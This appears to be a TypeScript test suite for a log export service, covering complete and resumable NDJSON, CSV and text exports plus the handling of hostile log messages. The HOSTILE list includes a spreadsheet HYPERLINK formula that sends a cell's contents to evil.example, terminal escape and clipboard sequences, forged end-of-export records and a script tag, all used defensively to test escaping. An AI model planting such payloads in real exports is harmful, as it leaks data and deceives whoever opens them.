import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createCall } from '../../src/domain/call.ts';
import { recordOf } from '../../src/export/record.ts';
import { EXPORT_FORMATS, FORMATS } from '../../src/export/formats.ts';
import type { ExportFormatName } from '../../src/export/formats.ts';
import type { ExportEnd, ExportRequest } from '../../src/export/walk.ts';
import { writeLogs } from '../../src/export/write.ts';
import type { Federation } from '../../src/federation/api.ts';
import { createFederation } from '../../src/federation/create-federation.ts';
import { decodeNodeId, entryRefOf } from '../../src/federation/node-id.ts';
import { fakeEntry } from '../resolvers/fake-federation.ts';
import { fakeSource } from '../federation/fake-sources.ts';
import type { FakeSource } from '../federation/fake-sources.ts';
import { offsetNative, tokenNative } from '../pagination/fake-natives.ts';
import type { RawLine } from '../pagination/fake-natives.ts';

const START = 1_700_000_000_000_000_000n;

/** Lines of which some share an instant and say the same. */
function lines(count: number, name: string): RawLine[] {
  return Array.from({ length: count }, (_, index) => ({
    time: START + BigInt(index >> 2) * 1_000_000n,
    id: `${name}${String(index).padStart(6, '0')}`,
    text: `${name} says ${index % 3}`,
    level: 'info',
  }));
}

function twoJobs(): FakeSource {
  return fakeSource('a', {
    job0: [offsetNative(lines(700, 'x'), { limit: 50, timeFilter: true, total: true, tieOrdered: true })],
    job1: [tokenNative(lines(300, 'y'), { limit: 70, addressable: true })],
  });
}

const SCOPES = ['job0', 'job1'].map((job) => ({ source: 'a', scope: { job } }));
const never = new AbortController().signal;

interface Written {
  readonly text: string;
  readonly end: ExportEnd | null;
}

async function write(
  federation: Federation,
  format: ExportFormatName,
  request: Partial<ExportRequest> = {},
  settings: { stopping?: AbortSignal; gone?: AbortSignal; onPart?: () => void } = {},
): Promise<Written> {
  let text = '';
  let end: ExportEnd | null = null;
  const parts = writeLogs(federation, { scopes: SCOPES, ...request }, FORMATS[format], {
    newCall: () => createCall(),
    gone: settings.gone ?? never,
    stopping: settings.stopping ?? never,
    pauses: [1, 1],
    onEnd: (ended) => {
      end = ended;
    },
  });
  for await (const part of parts) {
    text += part;
    settings.onPart?.();
  }
  return { text, end };
}

/** The whole lines of a text, and what comes after them. */
function linesOf(text: string): string[] {
  return text.split('\n').slice(0, -1);
}

describe('an export', () => {
  test('has every line of the log once and in order, and ends by saying that it is complete', async () => {
    const federation = createFederation([twoJobs()]);
    const { text, end } = await write(federation, 'ndjson');
    const records = linesOf(text).map((line) => JSON.parse(line) as { id?: string; end?: ExportEnd });
    const wanted = await federation.logs(SCOPES, { first: 1000 }, createCall()).nodes();
    expect(records.slice(0, -1).map(({ id }) => id)).toEqual(wanted.map(({ id }) => id));
    expect(records.at(-1)).toEqual({ end });
    expect(end).toMatchObject({ status: 'complete', lines: 1000, failures: [] });
  });

  test('that was cut anywhere and goes on behind its last whole line is the same, byte for byte', async () => {
    const federation = createFederation([twoJobs()]);
    const whole = (await write(federation, 'ndjson')).text;
    const body = whole.slice(0, whole.lastIndexOf('{"end"'));
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: body.length }), fc.boolean(), async (cut, isNew) => {
        const kept = linesOf(body.slice(0, cut));
        const last = kept.at(-1);
        const replica = isNew ? createFederation([twoJobs()]) : federation;
        let after: string | null = null;
        if (last !== undefined) {
          const ref = entryRefOf(decodeNodeId((JSON.parse(last) as { id: string }).id).keys);
          after = ref === null ? null : replica.cursorOf(ref, SCOPES, {});
        }
        const { text, end } = await write(replica, 'ndjson', { after });
        expect(`${kept.map((line) => `${line}\n`).join('')}${text.slice(0, text.lastIndexOf('{"end"'))}`).toBe(body);
        expect(end).toMatchObject({ status: 'complete', lines: 1000 - kept.length });
      }),
      { numRuns: 12 },
    );
  });

  test.each(EXPORT_FORMATS)(
    'as %s goes on from the cursor of one that a failing source has stopped',
    async (format) => {
      const source = twoJobs();
      const federation = createFederation([source]);
      const whole = (await write(federation, format)).text;
      let parts = 0;
      const onPart = (): void => {
        parts += 1;
        if (parts === 2) source.failures.set('job1', 1_000);
      };
      const stopped = await write(federation, format, {}, { onPart });
      expect(stopped.end).toMatchObject({
        status: 'failed',
        failures: [{ source: 'a', code: 'SOURCE_UNAVAILABLE', message: 'down', jobId: expect.any(String) as string }],
      });
      source.failures.clear();
      const rest = await write(federation, format, { after: stopped.end?.cursor });
      expect(rest.end?.status).toBe('complete');
      const [first, second, all] = [stopped.text, rest.text, whole].map((text) => linesOf(text).slice(0, -1));
      expect(first?.length).toBeGreaterThan(100);
      expect([...(first ?? []), ...(second ?? [])]).toEqual(all);
    },
  );

  test('waits out a source that fails for a while', async () => {
    const source = twoJobs();
    const onPart = (): void => void source.failures.set('job0', 1);
    const { end } = await write(createFederation([source]), 'text', {}, { onPart });
    expect(end).toMatchObject({ status: 'complete', lines: 1000 });
  });

  test('throws what is wrong with its first page, before anything is written', async () => {
    const source = twoJobs();
    source.failures.set('job1', 1);
    await expect(write(createFederation([source]), 'csv')).rejects.toMatchObject({ code: 'SOURCE_UNAVAILABLE' });
    await expect(write(createFederation([source]), 'csv', { after: 'x' })).rejects.toMatchObject({
      code: 'CURSOR_INVALID',
    });
  });

  test('names the cursor to continue from when the service stops, and writes nothing when its reader has gone', async () => {
    const stop = new AbortController();
    const source = twoJobs();
    const onPart = (): void => {
      stop.abort();
      source.failures.set('job0', 1_000);
    };
    const stopped = await write(createFederation([source]), 'text', {}, { onPart, stopping: stop.signal });
    expect(stopped.end).toMatchObject({ status: 'failed', cursor: expect.any(String) as string });
    expect(linesOf(stopped.text).at(-1)).toMatch(/^# export failed: /);
    const message = 'The service was stopped. Continue from the cursor.';
    expect(stopped.end?.failures).toMatchObject([{ source: null, code: 'SOURCE_UNAVAILABLE', message }]);
    source.failures.clear();
    const left = await write(createFederation([source]), 'text', {}, { onPart, gone: stop.signal });
    expect(left.end).toBeNull();
    expect(left.text).not.toContain('#');
  });
});

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\uff1d1',
  '\u001b[31mred\u001b[0m \u009b31m \u001b]52;c;ZXZpbA==\u0007',
  'quote " and, comma; and\n"#end",""\n# export complete: {}\r\n{"end":{"status":"complete"}}',
  '\u202eesrever\u2028{"end":{}}\u0085# export complete',
  '<script>alert(1)</script>',
  'half \ud800 of a pair',
  '',
];

describe('hostile messages', () => {
  const entries = HOSTILE.map((message, index) => fakeEntry({ source: 'up', key: 'a' }, index, { message }));
  const end: ExportEnd = { status: 'complete', lines: entries.length, cursor: 'c', failures: [] };

  test('stay one line of NDJSON each, that says what they said and acts on no terminal', () => {
    const text = entries.map((entry) => FORMATS.ndjson.line(recordOf(entry))).join('') + FORMATS.ndjson.end(end);
    expect(text).not.toMatch(/[\0-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e]/);
    const records = linesOf(text).map((line) => JSON.parse(line) as { message?: string });
    expect(records.map(({ message }) => message)).toEqual([
      ...HOSTILE.map((message) => message.replace('\ud800', '\ufffd')),
      undefined,
    ]);
    expect(linesOf(text).filter((line) => line.startsWith('{"end"'))).toHaveLength(1);
  });

  test('are text in every cell of CSV, and no row of their own', () => {
    const text =
      FORMATS.csv.head + entries.map((entry) => FORMATS.csv.line(recordOf(entry))).join('') + FORMATS.csv.end(end);
    const rows = rowsOf(text);
    expect(rows).toHaveLength(entries.length + 2);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([13]));
    for (const cell of rows.slice(1, -1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d]/);
    const message = rows[0]!.indexOf('message');
    expect(rows[1]![message]).toBe(`'${HOSTILE[0]}`);
    expect(text).not.toMatch(/[\x1b\x9b]/);
    expect(rows.at(-1)![0]).toBe('#end');
    expect(JSON.parse(rows.at(-1)![message]!)).toEqual(end);
    expect(text.split(/\r\n|\n/).filter((line) => line.startsWith('"#end"'))).toHaveLength(1);
  });

  test('are indented behind the first line of text, so that none looks like the end', () => {
    const text = entries.map((entry) => FORMATS.text.line(recordOf(entry))).join('') + FORMATS.text.end(end);
    expect(text).not.toMatch(/[\x1b\x9b]/);
    expect(text.split(/[\n\u0085\u2028]/).filter((line) => line.startsWith('#'))).toHaveLength(1);
    expect(linesOf(text).at(-1)).toBe(`# export complete: ${JSON.stringify(end)}`);
  });
});

/** A reader of RFC 4180. */
function rowsOf(text: string): string[][] {
  return [...text.matchAll(/(?:(?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n))*?(?:"(?:[^"]|"")*"|[^",\r\n]*)\r\n/g)].map(
    ([row]) =>
      [...row.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n)/g)].map(([, cell = '']) =>
        cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
      ),
  );
}
